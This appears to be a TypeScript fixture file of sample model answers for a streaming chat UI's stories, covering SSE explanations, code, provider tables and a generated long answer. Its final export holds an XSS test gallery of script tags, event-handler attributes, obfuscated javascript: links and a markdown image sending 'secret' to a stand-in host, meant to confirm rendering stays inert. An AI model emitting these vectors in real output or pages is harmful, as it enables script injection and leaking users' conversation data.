/** Answers for the stories, written the way models write. */

export const shortAnswer = `## Server-Sent Events

**SSE** streams text from server to browser over plain HTTP:

- one-way, server to client;
- reconnects with \`Last-Event-ID\`;
- passes through proxies, when they are told not to buffer.

That is why LLM APIs use it.`;

export const codeHeavyAnswer = `Here is a client and a server.

\`\`\`ts
import { streamText } from '@sluice/stream-client';

const stream = streamText({ url: '/api/chat', body: { messages } });
for await (const part of stream) {
  if (part.type === 'text-delta') render(part.text);
}
\`\`\`

And the relay:

\`\`\`ts
export async function POST(request: Request) {
  const body = await request.json();
  return toSSEResponse((signal) => relay(streamText({ url, body, signal })));
}
\`\`\`

\`\`\`bash
pnpm install && pnpm test
\`\`\``;

export const tableHeavyAnswer = `| Provider | Terminal signal | Usage arrives in |
|---|:---:|---:|
| OpenAI Chat | \`[DONE]\` | the last chunk |
| OpenAI Responses | \`response.completed\` | \`response.completed\` |
| Anthropic | \`message_stop\` | \`message_start\`, \`message_delta\` |

| Fault | Kind | Retried |
|---|---|---|
| 429 before the first token | \`http\` | yes |
| drop after tokens, with ids | \`network\` | resumed |
| drop after tokens, no ids | \`network\` | no |`;

/** A long answer of about `length` characters: prose, lists, code and tables, each section different. */
export function longAnswer(length = 30_000): string {
  const parts: string[] = [];
  let size = 0;
  for (let index = 1; size < length; index++) {
    const part = `### Section ${index}

Paragraph ${index} explains why streaming section ${index} needs **care**: tokens arrive every
${10 + (index % 40)} ms, and the page must never re-render everything for each one.

- point ${index}.1 with \`code_${index}\`
- point ${index}.2 with a [link](https://example.com/${index})

\`\`\`js
console.log('section ${index}', ${index * 3});
\`\`\`

`;
    parts.push(part);
    size += part.length;
  }
  return parts.join('');
}

/** Model output that tries every trick to run script or leak data; rendered, it must stay inert. */
export const xssGallery = `Raw tags: <script>window.sluiceXssRan = 'script'</script> and <img src=x onerror="window.sluiceXssRan='img'">

<svg onload="window.sluiceXssRan='svg'"><circle r="10" /></svg>

Links: [plain](javascript:window.sluiceXssRan='link') · [mixed case](JaVaScRiPt:window.sluiceXssRan='case') ·
[entity](&#106;avascript:window.sluiceXssRan='entity') · [data](data:text/html,<script>alert(1)</script>) ·
[vbscript](vbscript:msgbox(1)) · [tab](java	script:alert(1)) · <javascript:alert(1)>

An image that would leak the conversation: ![tracking pixel](https://evil.example/collect?q=secret)

<a href="javascript:window.sluiceXssRan='anchor'">anchor tag</a>

\`<script>this stays code</script>\``;
